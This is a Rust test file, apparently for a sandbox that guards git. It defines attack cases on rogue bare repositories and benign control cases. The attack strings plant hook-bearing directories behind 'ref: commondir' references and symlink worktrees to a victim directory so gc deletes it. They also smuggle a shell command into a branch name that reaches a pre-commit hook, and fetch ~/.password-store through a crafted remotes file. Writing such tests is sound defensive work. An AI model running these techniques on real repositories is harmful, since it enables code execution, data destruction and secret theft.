//! Directories that git takes for a repository although they are not called `.git`: whatever is in
//! one, git writes to where its references and links lead, and fetches from where its files say.

use crate::oracle::Tool::Person;
use crate::row::{ROW, Row};

const COMMITTED: Row = Row { prepare: "git init -q -b main; git commit -q --allow-empty -m x", ..ROW };
/// The person has such a directory, to which branches go.
const WITH_REMOTE: Row = Row {
    prepare: "git init -q -b main; git commit -q --allow-empty -m x; git init -q --bare -b main up.git; git remote add origin ./up.git; git push -qu origin main",
    ..ROW
};

/// In `$b` a reference that leads to `commondir`, and beside it the directory that git would write
/// there, with hooks: it is named by what is checked out in `$git`.
macro_rules! led {
    ($branch:literal) => {
        led!($branch, ".git")
    };
    ($branch:literal, $git:literal) => {
        concat!(
            "sha=$(git --git-dir=",
            $git,
            " rev-parse HEAD); rm -f $b/refs/heads/",
            $branch,
            "; echo 'ref: commondir' >$b/refs/heads/",
            $branch,
            "; mkdir -p $b/$sha/refs/heads; cp -r ",
            $git,
            "/objects $b/$sha/objects; mkdir $b/$sha/objects/17; ",
            "for n in $(seq 40); do echo x >$b/$sha/objects/17/$(printf '%038x' $n); done; ",
            "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n[gc]\\n\\tauto = 1\\n\\tautoDetach = false\\n[maintenance]\\n\\tautoDetach = false\\n' >$b/$sha/config; ",
            "for h in pre-auto-gc reference-transaction pre-receive post-receive update; do mkhook $b/$sha/hooks/$h; done; "
        )
    };
}

/// A repository in `$b`, without settings.
macro_rules! bare {
    ($name:literal) => {
        concat!("b=", $name, "; mkdir -p $b/objects $b/refs/heads; echo 'ref: refs/heads/other' >$b/HEAD; ")
    };
}

/// As many loose objects as it takes for git to collect garbage, true ones.
macro_rules! objects {
    () => {
        "python3 - $b <<'E'
import hashlib, os, sys, zlib
os.makedirs(sys.argv[1] + '/objects/17', exist_ok=True)
n = i = 0
while n < 40:
    text = b'x%d' % i
    raw = b'blob %d\\0' % len(text) + text
    name, i = hashlib.sha1(raw).hexdigest(), i + 1
    if name[:2] == '17':
        open(sys.argv[1] + '/objects/17/' + name[2:], 'wb').write(zlib.compress(raw))
        n += 1
E\n"
    };
}

/// Attacks.
pub const ROWS: &[Row] = &[
    Row {
        id: "bare-led-pushed",
        attack: concat!(
            bare!("br"),
            led!("main"),
            "git remote add origin ./br; git config branch.main.remote origin; git config branch.main.merge refs/heads/main"
        ),
        ask: &[Person("git push -q; git push -q")],
        ..COMMITTED
    },
    Row {
        id: "bare-led-fetched",
        attack: concat!(
            bare!("src"),
            "mkdir src/remotes; printf 'URL: %s\\nPull: +refs/heads/main:refs/heads/x\\n' $W >src/remotes/origin; ",
            led!("x")
        ),
        ask: &[Person("cd src; git fetch -q; git fetch -q")],
        ..COMMITTED
    },
    Row {
        id: "bare-led-there",
        attack: concat!("b=up.git; git commit -q --allow-empty -m z; ", led!("main")),
        ask: &[Person("git push -q; git commit -q --allow-empty -m z; git push -q")],
        ..WITH_REMOTE
    },
    Row {
        id: "bare-led-moved",
        attack: concat!(
            "b=up.git; git commit -q --allow-empty -m z; l() { echo 'ref: commondir' >$1; }; l x; mv -f x up.git/refs/heads/main; ",
            "l up.git/refs/heads/main.lock; mv -f up.git/refs/heads/main.lock up.git/refs/heads/main; l x; ln -f x up.git/refs/heads/main; ",
            "mkdir r; l r/main; mv up.git/refs/heads up.git/refs/old; mv r up.git/refs/heads; mv -T r up.git/refs/heads; ln -s ../../r up.git/refs/heads/x; ",
            "$ACTS exchange r up.git/refs/heads; ",
            led!("main")
        ),
        ask: &[Person("git push -q; git commit -q --allow-empty -m z; git push -q")],
        ..WITH_REMOTE
    },
    Row {
        id: "bare-link-deletes",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; mkdir -p ~/victim/sub; echo x >~/victim/sub/f",
        attack: concat!(
            "echo $C >c; ",
            bare!("src"),
            "mkdir src/remotes; printf 'URL: %s\\nPull: +refs/heads/main:refs/heads/x\\n' $W >src/remotes/origin; ln -s ~/victim src/worktrees; ",
            objects!()
        ),
        ask: &[Person(
            "cd src; git -c gc.auto=1 -c gc.autoDetach=false -c maintenance.autoDetach=false fetch -q; [ -e ~/victim/sub/f ] || $(cat ../c)",
        )],
        ..ROW
    },
    Row {
        id: "bare-link-deletes-there",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; git init -q --bare -b main up.git; git -C up.git config gc.auto 1; git -C up.git config gc.autoDetach false; git remote add origin ./up.git; git push -qu origin main; mkdir -p ~/victim/sub; echo x >~/victim/sub/f",
        attack: concat!("echo $C >c; b=up.git; ln -s ~/victim up.git/worktrees; ", objects!()),
        ask: &[Person("git commit -q --allow-empty -m z; git push -q; [ -e ~/victim/sub/f ] || $(cat c)")],
        ..ROW
    },
    Row {
        id: "bare-link-written",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; printf '#!/bin/sh\\ntrue\\n' >.git/hooks/pre-commit; chmod 755 .git/hooks/pre-commit",
        attack: concat!(
            "hook >c; ",
            bare!("br"),
            "git update-ref \"refs/heads/x';sh\\${IFS}c;'\" HEAD; mkdir br/remotes; ",
            "printf 'URL: %s\\nPull: +refs/heads/%s:refs/heads/y\\n' $W \"x';sh\\${IFS}c;'\" >br/remotes/origin; ln -s ../.git/hooks/pre-commit br/FETCH_HEAD"
        ),
        ask: &[Person("cd br; git fetch -q; cd ..; git commit -q --allow-empty -m y")],
        ..ROW
    },
    Row {
        id: "bare-fetches-hidden",
        prepare: "git init -q -b main; git init -q -b main ~/.password-store; git -C ~/.password-store commit -q --allow-empty -m x",
        attack: concat!(
            "echo $C >c; ",
            bare!("br"),
            "mkdir br/remotes; printf 'URL: %s/.password-store\\nPull: +refs/heads/*:refs/remotes/origin/*\\n' $HOME >br/remotes/origin"
        ),
        ask: &[Person("cd br; git fetch -q; [ -z \"$(git for-each-ref refs/remotes)\" ] || $(cat ../c)")],
        ..ROW
    },
    // The name of a module that lies in what another one would take for data.
    Row {
        id: "bare-module-of-data",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; git init -q --bare -b main ../good.git; git remote add origin ../good.git; git push -qu origin main; git init -q -b main ~/.password-store; git -C ~/.password-store commit -q --allow-empty -m x",
        attack: "echo $C >c; g=.git/modules/x/logs/b; mkdir -p $g/objects $g/refs/heads $g/remotes; echo 'ref: refs/heads/main' >$g/HEAD; \
                 printf 'URL: %s/.password-store\\nPull: +refs/heads/*:refs/remotes/origin/*\\n' $HOME >$g/remotes/origin; \
                 printf '[submodule \"x/logs/b\"]\\n\\tpath = sub\\n\\turl = ./x\\n\\tfetchRecurseSubmodules = true\\n' >.gitmodules; \
                 git update-index --add --cacheinfo 160000,$(printf '1%.0s' $(seq 40)),sub; git config submodule.x/logs/b.active true; git config submodule.x/logs/b.fetchRecurseSubmodules true",
        ask: &[Person(
            "git fetch -q --recurse-submodules; [ -z \"$(git --git-dir=.git/modules/x/logs/b for-each-ref refs/remotes)\" ] || $(cat c)",
        )],
        ..ROW
    },
    Row {
        id: "bare-workspace-led",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; git init -q --bare -b main ../good.git; git remote add origin ../good.git; git push -qu origin main; mkdir pkg",
        workspace: "pkg",
        attack: concat!(
            bare!("."),
            "mkdir remotes; printf 'URL: %s/..\\nPull: +refs/heads/main:refs/heads/x\\n' $PWD >remotes/origin; ",
            led!("x", "../.git")
        ),
        ask: &[Person("cd pkg; git fetch -q; git fetch -q")],
        ..ROW
    },
];

/// Ordinary work.
pub const WORK: &[Row] = &[
    Row {
        id: "bare-work-fetched",
        attack: "git fetch -q; git ls-remote -q; git clone -q up.git c; cd c; git log -q >/dev/null",
        ..WITH_REMOTE
    },
    Row {
        id: "bare-work-pushed",
        // What removes or overwrites is asked about under the name of `push`.
        attack: "git commit -q --allow-empty -m y; git push -q; git push -q origin HEAD:other; $(git --exec-path)/git-send-pack -q up.git :refs/heads/other; git tag t; git push -q origin t; $(git --exec-path)/git-send-pack -q --force up.git HEAD^:refs/heads/main; [ $(git -C up.git rev-parse main) = $(git rev-parse HEAD^) ]",
        ..WITH_REMOTE
    },
    Row {
        id: "bare-work-granted",
        options: &["--grant", "write up.git"],
        attack: "git commit -q --allow-empty -m y; git push -q; [ $(git -C up.git rev-parse main) = $(git rev-parse HEAD) ]",
        ..WITH_REMOTE
    },
    Row {
        id: "bare-work-names",
        attack: "mkdir -p a/objects a/refs b/HEAD c/objects c/HEAD; echo x >a/config; rm -r a b c; mkdir objects; echo x >HEAD; mv HEAD h; rm h",
        ..ROW
    },
];
